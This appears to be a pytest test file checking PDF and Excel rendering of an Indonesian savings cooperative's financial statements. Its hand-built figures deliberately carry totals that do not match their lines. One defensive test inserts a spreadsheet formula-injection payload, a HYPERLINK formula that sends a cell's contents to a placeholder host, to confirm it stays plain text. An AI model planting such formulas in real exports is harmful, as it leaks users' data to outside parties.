"""Financial statements PDF and workbook: what the pengurus sign and the auditor reads.

The DTOs are built by hand (no book); totals are deliberately not the sums of the
lines wherever a test checks that the renderer prints the DTO's figures."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pypdf
import pytest
from reportlab.lib.pagesizes import A4
from reportlab.lib.units import mm
from reportlab.pdfbase.pdfmetrics import stringWidth
from reportlab.platypus import SimpleDocTemplate

from kopdesk.domain.papers.statements import (
    EquityBlock,
    EquityColumn,
    EquityRow,
    EquityStatement,
    FinancialStatements,
    NoteRow,
    Notes,
    NoteTable,
    Period,
    Signer,
    Statement,
    StatementLine,
)
from kopdesk.reports.statements import money, render_statements, statement_story
from kopdesk.reports.statements_xlsx import NUMBER_FORMAT, statements_workbook
from tests.reports import samples
from tests.reports.pdftext import pdf_pages, pdf_text

D = dt.date
YEAR = Period(D(2025, 1, 1), D(2025, 12, 31), "Tahun Buku 2025", "year", 1, 2025)
PRIOR = Period(D(2024, 1, 1), D(2024, 12, 31), "Tahun Buku 2024", "year", 1, 2024)
LONG = samples.LONG_NAME


def L(
    section: str, code: str, name: str, amount: int, prior: int, level: int, **kw: bool | str
) -> StatementLine:
    return StatementLine(section, code, name, amount, prior, level, **kw)  # type: ignore[arg-type]


def balance_sheet(*, total: int = 1_526_270_443) -> Statement:
    lines = (
        L("aset", "aset", "ASET", 0, 0, 0, is_heading=True),
        L("aset", "1100", "Kas dan setara kas", 0, 0, 1, is_heading=True, note="3"),
        L("aset", "1101", "Kas", 54_248_380, 66_574_540, 2, is_account=True),
        L("aset", "1112", "Bank - tabungan", 711_246_427, 0, 2, is_account=True),
        L("aset", "1100", "Jumlah kas dan setara kas", 765_494_807, 66_574_540, 1, is_total=True),
        L("aset", "1300", "Pinjaman yang diberikan", 0, 0, 1, is_heading=True, note="4"),
        L("aset", "1301", LONG, 193_324_600, 210_808_117, 2, is_account=True),
        L("aset", "1390", "Penyisihan penghapusan pinjaman", -8_577_077, -10_773_119, 2,
          is_account=True),
        L("aset", "1300", "Jumlah pinjaman yang diberikan", 184_747_523, 200_034_998, 1,
          is_total=True),
        L("aset", "1600", "Aset tetap", 0, 0, 1, is_heading=True, note="5"),
        L("aset", "1604", "Inventaris dan peralatan kantor", 24_600_000, 24_600_000, 2,
          is_account=True),
        L("aset", "jumlah_aset", "JUMLAH ASET", total, 291_209_538, 0, is_total=True),
        L("ekuitas", "ekuitas", "EKUITAS", 0, 0, 0, is_heading=True),
        L("ekuitas", "3502", "SHU tahun berjalan", -5_154_651, 0, 2, is_account=True),
        L("ekuitas", "jumlah_ekuitas", "JUMLAH EKUITAS", -5_154_651, 0, 0, is_total=True),
    )  # fmt: skip
    return Statement(
        "posisi-keuangan", "LAPORAN POSISI KEUANGAN", YEAR, PRIOR, lines,
        ("31 Desember 2025", "31 Desember 2024"), "Per 31 Desember 2025 dan 31 Desember 2024",
        samples.HEADER,
    )  # fmt: skip


def income() -> Statement:
    lines = (
        L("pendapatan", "pendapatan", "PENDAPATAN", 0, 0, 0, is_heading=True),
        L("pendapatan", "4105", "Jasa pelayanan lain", 2_500_000, 1_000_000, 2, is_account=True),
        L("pendapatan", "jumlah_pendapatan", "JUMLAH PENDAPATAN", 2_500_000, 1_000_000, 0,
          is_total=True),
        L("shu", "shu", "SISA HASIL USAHA (SHU) SETELAH PAJAK", 1_400_000, -300_000, 0,
          is_total=True, note="7"),
    )  # fmt: skip
    return Statement("hasil-usaha", "LAPORAN PERHITUNGAN HASIL USAHA", YEAR, PRIOR, lines,
                     ("2025", "2024"), "Untuk periode 1 Januari 2025 s.d. 31 Desember 2025",
                     samples.HEADER)  # fmt: skip


def cash_flow() -> Statement:
    lines = (
        L("operasi", "operasi", "Arus kas dari aktivitas operasi", 0, 0, 0, is_heading=True),
        L("operasi", "pendapatan", "Penerimaan jasa", 2_500_000, 0, 2),
        L("operasi", "jumlah_operasi", "Arus kas bersih dari aktivitas operasi", 2_500_000, 0,
          0, is_total=True),
        L("kas", "kas_akhir", "KAS DAN SETARA KAS AKHIR PERIODE", 765_494_807, 66_574_540, 0,
          is_total=True, note="3"),
    )  # fmt: skip
    return Statement("arus-kas", "LAPORAN ARUS KAS", YEAR, PRIOR, lines, ("2025", "2024"),
                     "Untuk periode 1 Januari 2025 s.d. 31 Desember 2025 (metode langsung)",
                     samples.HEADER)  # fmt: skip


COLUMNS = (
    EquityColumn("pokok", "Simpanan pokok", "3101"),
    EquityColumn("shu", "SHU", "35xx"),
    EquityColumn("pkl", "Penghasilan komprehensif lain", "36xx"),
)


def equity() -> EquityStatement:
    def block(p: Period, opening: int) -> EquityBlock:
        return EquityBlock(
            p,
            EquityRow("saldo_awal", f"Saldo per 1 Januari {p.fiscal_year}",
                      (opening, 0, 0), opening, True),
            (EquityRow("shu_berjalan", "SHU periode berjalan", (0, -1_234_567, 0), -1_234_567),),
            EquityRow("saldo_akhir", f"Saldo per 31 Desember {p.fiscal_year}",
                      (opening, -1_234_567, 0), 987_654_321, True),
        )  # fmt: skip

    return EquityStatement(
        "perubahan-ekuitas", "LAPORAN PERUBAHAN EKUITAS", YEAR, PRIOR, COLUMNS,
        block(PRIOR, 24_700_000), block(YEAR, 28_100_000),
        "Untuk periode 1 Januari 2025 s.d. 31 Desember 2025", samples.HEADER,
    )  # fmt: skip


def notes() -> Notes:
    return Notes(
        "catatan", "CATATAN ATAS LAPORAN KEUANGAN", YEAR, PRIOR,
        (("Nama koperasi", "KSP Sejahtera Bersama"), ("Tahun buku", "1 Januari s.d. 31 Desember")),
        (NoteTable("2.1", "k1", "Dasar penyusunan",
                   ("Laporan keuangan disusun berdasarkan SAK EP.",)),),
        (
            NoteTable("3", "kas", "Kas dan setara kas", ("Saldo kas dan bank menurut akun.",),
                      ("31 Desember 2025", "31 Desember 2024"),
                      (NoteRow("Kas", (54_248_380, 66_574_540), "1101"),
                       NoteRow("Jumlah", (111, 222), is_total=True))),
            NoteTable("4.2", "kolektibilitas", "Pinjaman menurut kolektibilitas", (),
                      ("Banyaknya", "Sisa pokok", "PPAP wajib"),
                      (NoteRow("Lancar (PPAP 0,5%)", (38, 334_083_948, 1_670_420), "lancar"),)),
        ),
        "Untuk periode 1 Januari 2025 s.d. 31 Desember 2025", samples.HEADER,
    )  # fmt: skip


def statements(
    *, signers: tuple[Signer, ...] | None = None, total: int = 1_526_270_443
) -> FinancialStatements:
    return FinancialStatements(
        samples.HEADER, YEAR, PRIOR, balance_sheet(total=total), income(), equity(), cash_flow(),
        notes(), signers if signers is not None else (Signer("Ketua", "Eko Sumarni"),
                                                     Signer("Bendahara", "Iwan Wijaya")),
    )  # fmt: skip


def _line(text: str, start: str) -> str:
    for line in text.splitlines():
        if line.strip().startswith(start):
            return line
    raise AssertionError(f"no line starting with {start!r}")


def test_money_uses_parentheses_and_a_dash() -> None:
    assert (money(1_250_000), money(-8_577_077), money(0)) == ("1.250.000", "(8.577.077)", "-")


def test_balance_sheet_alone_has_its_title_in_the_page_header() -> None:
    pages = pdf_pages(render_statements(statements(), samples.STAMP, {"posisi-keuangan"}))
    assert len(pages) == 1
    text = pages[0]
    assert "LAPORAN POSISI KEUANGAN" in text
    assert "LAPORAN KEUANGAN\n" not in text
    assert "Per 31 Desember 2025 dan 31 Desember 2024" in text
    assert "(dinyatakan dalam rupiah)" in text
    assert re.search(r"Uraian\s+Catatan\s+31 Desember 2025\s+31 Desember 2024", text)
    assert re.search(r"Kas dan setara kas\s+3\b", text)
    assert re.fullmatch(r"\s*Kas\s+54\.248\.380\s+66\.574\.540\s*", _line(text, "Kas  "))
    allowance = _line(text, "Penyisihan penghapusan pinjaman")
    assert re.search(r"\(8\.577\.077\)\s+\(10\.773\.119\)\s*$", allowance)
    assert re.search(r"Bank - tabungan\s+711\.246\.427\s+-\s*$", _line(text, "Bank - tabungan"))
    assert "Halaman 1 dari 1" in text


def test_totals_are_the_dtos() -> None:
    text = pdf_text(render_statements(statements(total=999_888_777), samples.STAMP,
                                      {"posisi-keuangan"}))  # fmt: skip
    assert re.search(r"JUMLAH ASET\s+999\.888\.777\s+291\.209\.538", text)


def test_a_single_account_group_prints_as_one_line_with_the_groups_note() -> None:
    text = pdf_text(render_statements(statements(), samples.STAMP, {"posisi-keuangan"}))
    assert "Aset tetap" not in text
    assert re.search(r"Inventaris dan peralatan kantor\s+5\s+24\.600\.000\s+24\.600\.000", text)


def test_a_long_name_wraps_and_keeps_its_amounts_on_the_first_line() -> None:
    text = pdf_text(render_statements(statements(), samples.STAMP, {"posisi-keuangan"}))
    for word in LONG.split():
        assert word in text
    first = _line(text, LONG.split()[0])
    assert first.rstrip().endswith("193.324.600 210.808.117") or re.search(
        r"193\.324\.600\s+210\.808\.117\s*$", first
    )


def _right_edges(pdf: bytes) -> dict[str, float]:
    """Where each drawn string ends on page one (x in points), from the PDF itself."""
    edges: dict[str, float] = {}

    def visit(text: str, cm: object, tm: list[float], font: object, size: float) -> None:
        del cm, font
        if text.strip():
            edges[text.strip()] = tm[4] + stringWidth(text.strip(), "Helvetica", size)

    pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text(visitor_text=visit)
    return edges


def test_figures_line_up_with_the_digits_inside_parentheses() -> None:
    edges = _right_edges(render_statements(statements(), samples.STAMP, {"posisi-keuangan"}))
    paren = stringWidth(")", "Helvetica", 8)
    # the last digit of 54.248.380 sits over the last digit of (8.577.077)
    assert edges["54.248.380"] == pytest.approx(edges["(8.577.077)"] - paren, abs=0.05)
    assert edges["(10.773.119)"] > edges["66.574.540"]


def test_signatures_name_the_ketua_and_the_bendahara() -> None:
    text = pdf_text(render_statements(statements(), samples.STAMP, {"hasil-usaha"}))
    assert "Pengurus KOPERASI SIMPAN PINJAM SEJAHTERA BERSAMA" in text
    assert re.search(r"Ketua\s+Bendahara", text)
    assert re.search(r"\( Eko Sumarni \)\s+\( Iwan Wijaya \)", text)
    unknown = (Signer("Ketua", ""), Signer("Bendahara", "Iwan Wijaya"))
    blank = pdf_text(render_statements(statements(signers=unknown), samples.STAMP, {"arus-kas"}))
    assert re.search(r"\( \.{20,} \)\s+\( Iwan Wijaya \)", blank)


def test_all_five_each_on_its_own_page_in_order() -> None:
    pages = pdf_pages(render_statements(statements(), samples.STAMP))
    titles = [
        "LAPORAN POSISI KEUANGAN",
        "LAPORAN PERHITUNGAN HASIL USAHA",
        "LAPORAN PERUBAHAN EKUITAS",
        "LAPORAN ARUS KAS",
        "CATATAN ATAS LAPORAN KEUANGAN",
    ]
    assert len(pages) == 5
    for page, title in zip(pages, titles, strict=True):
        assert "LAPORAN KEUANGAN" in page
        assert title in page
        assert "Tahun Buku 2025 (1 Januari 2025 s.d. 31 Desember 2025)" in page
    assert "Pengurus" not in pages[4]  # the notes are not signed separately


def test_equity_matrix() -> None:
    text = pdf_text(render_statements(statements(), samples.STAMP, {"perubahan-ekuitas"}))
    # headings wrap between words: "Simpanan / pokok", "Penghasilan / komprehensif / lain"
    assert re.search(r"Simpanan\s+Penghasilan\n", text)
    assert re.search(r"Uraian\s+pokok\s+SHU\s+komprehensif\s+Jumlah", text)
    closing = _line(text, "Saldo per 31 Desember 2025")
    assert re.search(r"28\.100\.000\s+\(1\.234\.567\)\s+-\s+987\.654\.321\s*$", closing)
    assert _line(text, "Saldo per 1 Januari 2024")


def test_notes() -> None:
    text = pdf_text(render_statements(statements(), samples.STAMP, {"catatan"}))
    assert "1. UMUM" in text
    assert re.search(r"Nama koperasi\s+:\s+KSP Sejahtera Bersama", text)
    assert "2. IKHTISAR KEBIJAKAN AKUNTANSI" in text
    assert "2.1 Dasar penyusunan" in text
    assert "3. Kas dan setara kas" in text
    assert re.search(r"Jumlah\s+111\s+222", text)
    assert "4.2 Pinjaman menurut kolektibilitas" in text
    assert re.search(r"Lancar \(PPAP 0,5%\)\s+38\s+334\.083\.948\s+1\.670\.420", text)


def test_the_story_works_in_any_document() -> None:
    """The RAT book embeds the statements in its own template."""
    buffer = io.BytesIO()
    doc = SimpleDocTemplate(buffer, pagesize=A4, leftMargin=20 * mm, rightMargin=20 * mm)
    story = statement_story(statements(), doc.width, which={"hasil-usaha", "arus-kas"},
                            signatures=False)  # fmt: skip
    doc.build(story)
    pages = pdf_pages(buffer.getvalue())
    assert len(pages) == 2
    assert "LAPORAN PERHITUNGAN HASIL USAHA" in pages[0]
    assert "LAPORAN ARUS KAS" in pages[1]
    assert "Pengurus" not in pages[0]


def test_unknown_statement_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown"):
        render_statements(statements(), samples.STAMP, {"neraca"})


def test_workbook_one_sheet_per_statement_with_numbers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(statements_workbook(statements())))
    assert book.sheetnames == ["Posisi Keuangan", "Hasil Usaha", "Perubahan Ekuitas",
                               "Arus Kas", "Catatan"]  # fmt: skip
    sheet = book["Posisi Keuangan"]
    rows = {r[1].value: r for r in sheet.iter_rows() if r[1].value}
    kas = rows["Kas"]
    assert (kas[0].value, kas[3].value, kas[4].value) == ("1101", 54_248_380, 66_574_540)
    assert kas[3].number_format == NUMBER_FORMAT
    assert rows["Penyisihan penghapusan pinjaman"][3].value == -8_577_077
    total = rows["JUMLAH ASET"]
    assert total[3].value == 1_526_270_443
    assert total[3].font.bold
    assert total[1].font.bold
    assert not kas[3].font.bold
    assert rows["Kas dan setara kas"][3].value is None  # headings carry no figures
    equity_rows = {r[0].value: r for r in book["Perubahan Ekuitas"].iter_rows() if r[0].value}
    assert equity_rows["Saldo per 31 Desember 2025"][4].value == 987_654_321
    only = openpyxl.load_workbook(io.BytesIO(statements_workbook(statements(), {"arus-kas"})))
    assert only.sheetnames == ["Arus Kas"]


def test_workbook_writes_account_names_as_text_never_as_formulas() -> None:
    """A cooperative names its own accounts: ``=HYPERLINK(...)`` must stay a name,
    and a control character a workbook cannot hold must not break the export."""
    injected = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
    fs = statements()
    lines = tuple(
        dataclasses.replace(ln, name=injected) if ln.code == "1101" else ln
        for ln in fs.balance_sheet.lines
    )
    header = dataclasses.replace(fs.header, coop_name="KSP\x00 Sejahtera")
    fs = dataclasses.replace(
        fs, header=header, balance_sheet=dataclasses.replace(fs.balance_sheet, lines=lines)
    )
    data = statements_workbook(fs, {"posisi-keuangan"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Posisi Keuangan"]
    assert sheet["A1"].value == "KSP Sejahtera"
    cell = next(r[1] for r in sheet.iter_rows() if r[0].value == "1101")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (injected, "s", True)
